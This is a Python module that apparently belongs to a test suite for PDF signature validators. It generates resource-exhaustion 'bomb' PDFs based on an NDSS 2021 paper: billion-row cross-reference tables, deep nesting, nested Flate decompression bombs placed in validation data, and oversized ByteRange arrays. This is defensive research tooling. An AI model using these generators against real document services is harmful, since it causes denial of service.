"""Bombs: files that ask for endless time, memory or stack. Each still carries a signature.

Source: Müller, Noss, Mladenov, Mainka, Schwenk: Processing Dangerous Paths, NDSS 2021, section V-A.
"""

from __future__ import annotations

import zlib
from collections.abc import Callable

from attack_kinds import Family
from attack_loops import trailer_at, with_object_stream, with_xref_stream
from attack_papers import Papers
from attack_pdf import Editor, appended, edited, last_startxref, places, root_of, with_range

BOMBS = Family("bombs")


@BOMBS.on_each("secretary")
def table_of_a_billion_rows(pdf: bytes) -> bytes:
    table = b"xref\n0 1000000000\n0000000000 65535 f \n"
    return pdf + table + trailer_at(pdf, len(pdf), f"/Prev {last_startxref(pdf)}")


@BOMBS.on_each("secretary")
def stream_of_a_billion_rows(pdf: bytes) -> bytes:
    return with_xref_stream(pdf, {}, f"/Prev {last_startxref(pdf)}").replace(
        b"/Index [9000 1]", b"/Index [0 1000000000]"
    )


@BOMBS.on_each("secretary")
def stream_rows_as_wide_as_the_sea(pdf: bytes) -> bytes:
    return with_xref_stream(pdf, {}, f"/Prev {last_startxref(pdf)}").replace(b"/W [1 4 2]", b"/W [1 999999999 2]")


@BOMBS.on_each("secretary")
def hundred_thousand_revisions(pdf: bytes) -> bytes:
    made = bytearray(pdf)
    previous = last_startxref(pdf)
    for _ in range(100_000):
        at = len(made)
        made += b"xref\n0 0\ntrailer\n<< /Size 500 /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n" % (
            root_of(pdf),
            previous,
            at,
        )
        previous = at
    return bytes(made)


@BOMBS.on_each("secretary")
def million_end_markers(pdf: bytes) -> bytes:
    return pdf + b"%%EOF\n" * 1_000_000


@BOMBS.on_each("secretary")
def million_startxrefs(pdf: bytes) -> bytes:
    return pdf + b"startxref\n%d\n%%%%EOF\n" % last_startxref(pdf) * 300_000


@BOMBS.on_each("secretary")
def million_fields(pdf: bytes) -> bytes:
    def change(editor: Editor) -> None:
        number = editor.field_ref("Justerare").idnum
        editor.put(editor.root["/AcroForm"], "/Fields", "[" + f"{number} 0 R " * 300_000 + "]")

    return edited(pdf, change)


@BOMBS.on_each("secretary")
def fields_that_are_many(pdf: bytes) -> bytes:
    objects = {1000 + n: b"<< /FT /Sig /T (F%d) >>" % n for n in range(100_000)}
    number = Editor.on(pdf).root.raw_get("/AcroForm").idnum
    kids = b" ".join(b"%d 0 R" % n for n in objects)
    return appended(pdf, objects | {number: b"<< /SigFlags 3 /Fields [" + kids + b"] >>"})


@BOMBS.on_each("secretary")
def deep_arrays(pdf: bytes) -> bytes:
    return appended(pdf, {7000: b"[" * 100_000 + b"]" * 100_000, root_of(pdf): _catalog(pdf, b"/Inventory 7000 0 R")})


@BOMBS.on_each("secretary")
def deep_dictionaries(pdf: bytes) -> bytes:
    deep = b"<< /A " * 100_000 + b"1" + b" >>" * 100_000
    return appended(pdf, {7000: deep, root_of(pdf): _catalog(pdf, b"/Inventory 7000 0 R")})


def _catalog(pdf: bytes, entry: bytes) -> bytes:
    head, _, tail = _newest_catalog(pdf).rpartition(b">>")
    return head + entry + b" >>" + tail


def _newest_catalog(pdf: bytes) -> bytes:
    at = pdf.rindex(b"\n%d 0 obj" % root_of(pdf))
    return pdf[at:].split(b"obj", 1)[1].split(b"endobj", 1)[0].strip()


def _deflated(times: int, length: int = 100_000_000) -> bytes:
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(bytes(1_000_000)) for _ in range(length // 1_000_000)) + packer.flush()
    for _ in range(times - 1):
        data = zlib.compress(data, 9)
    return data


def _bomb(filters: str, data: bytes) -> Callable[[bytes], bytes]:
    """It stands where a validator reads: in the validation data."""

    def build(pdf: bytes) -> bytes:
        stream = b"<< /Filter %s /Length %d >>\nstream\n%s\nendstream" % (filters.encode(), len(data), data)
        made = appended(pdf, {7000: stream})
        return edited(
            made,
            lambda editor: editor.put(editor.root, "/DSS", "<< /Type /DSS /CRLs [7000 0 R] /Certs [7000 0 R] >>"),
        )

    return build


@BOMBS.on_each("secretary")
def stream_inflates_to_a_hundred_megabytes(pdf: bytes) -> bytes:
    return _bomb("/FlateDecode", _deflated(1))(pdf)


@BOMBS.on_each("secretary")
def stream_inflates_twice(pdf: bytes) -> bytes:
    return _bomb("[/FlateDecode /FlateDecode]", _deflated(2, 1_000_000_000))(pdf)


@BOMBS.on_each("secretary")
def stream_of_a_thousand_filters(pdf: bytes) -> bytes:
    return _bomb("[" + "/ASCIIHexDecode " * 1000 + "]", b"30>")(pdf)


@BOMBS.on_each("secretary")
def table_stream_inflates(pdf: bytes) -> bytes:
    return with_xref_stream(pdf, {}, f"/Prev {last_startxref(pdf)} /Filter /FlateDecode", _deflated(1))


@BOMBS.on_each("secretary")
def object_stream_of_a_billion(pdf: bytes) -> bytes:
    return with_object_stream(pdf, b"%d 0 << >>" % root_of(pdf), 4).replace(b"/N 1 ", b"/N 999999999 ")


@BOMBS.on_each("secretary")
def object_stream_starts_before_itself(pdf: bytes) -> bytes:
    return with_object_stream(pdf, b"%d 0 << >>" % root_of(pdf), -4)


@BOMBS.on_each("secretary")
def huge_numbers(pdf: bytes) -> bytes:
    return appended(pdf, {7000: b"9" * 1_000_000, root_of(pdf): _catalog(pdf, b"/Inventory 7000 0 R")})


@BOMBS.on_each("secretary")
def huge_object_number(pdf: bytes) -> bytes:
    return edited(pdf, lambda editor: editor.put(editor.root, "/Inventory", "99999999999999999999 0 R"))


@BOMBS.on_each("secretary")
def huge_name(pdf: bytes) -> bytes:
    return appended(pdf, {root_of(pdf): _catalog(pdf, b"/" + b"#41" * 500_000 + b" 1")})


@BOMBS.on_each("secretary")
def string_without_end(pdf: bytes) -> bytes:
    return appended(pdf, {root_of(pdf): _catalog(pdf, b"/Inventory " + b"(" * 500_000)})


@BOMBS.on_each("secretary")
def comments_without_end(pdf: bytes) -> bytes:
    return appended(pdf, {root_of(pdf): b"%\n" * 500_000 + _catalog(pdf, b"/Inventory 1")})


@BOMBS.attack("roomy_alone")
def thousand_ranges(papers: Papers) -> bytes:
    """A range of half a million pairs: the page is hashed as often."""
    pdf = papers.roomy_alone
    number = Editor.on(pdf).field("Sekreterare").raw_get("/V").idnum
    place = places(pdf)[-1]
    at = pdf.rindex(b"%d 0 obj" % number)
    text = pdf[at:].split(b"obj", 1)[1].split(b"endobj", 1)[0].strip()
    many = b"/ByteRange [" + b"0 %d " % place.gap[0] * 250_000 + b"]"
    start, end = place.written
    return appended(pdf, {number: text.replace(pdf[start:end], many)})


@BOMBS.attack("roomy_alone")
def signatures_without_number(papers: Papers) -> bytes:
    """Two thousand fields that all hold the one signature."""
    pdf = papers.roomy_alone
    editor = Editor.on(pdf)
    value = editor.field("Sekreterare").raw_get("/V").idnum
    form = editor.root.raw_get("/AcroForm").idnum
    objects = {10_000 + n: b"<< /FT /Sig /T (F%d) /V %d 0 R >>" % (n, value) for n in range(2_000)}
    kids = b" ".join(b"%d 0 R" % n for n in objects)
    return appended(pdf, objects | {form: b"<< /SigFlags 3 /Fields [" + kids + b"] >>"})


@BOMBS.attack("roomy_alone")
def range_beyond_every_number(papers: Papers) -> bytes:
    pdf = papers.roomy_alone
    return with_range(pdf, places(pdf)[-1], f"/ByteRange [0 {2**63} {2**64} 1]")
